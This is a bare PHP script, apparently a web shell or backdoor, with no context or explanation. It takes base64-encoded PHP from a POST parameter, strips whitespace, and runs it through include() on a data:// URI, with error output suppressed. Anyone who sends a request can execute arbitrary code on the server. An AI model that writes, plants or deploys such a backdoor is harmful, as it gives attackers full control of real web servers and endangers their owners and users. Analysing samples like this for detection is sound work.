<?php
$body = isset($_POST['b']) ? $_POST['b'] : '';
$body = preg_replace('~\s~', '', $body);
@include 'data://text/plain;base64,' . $body;
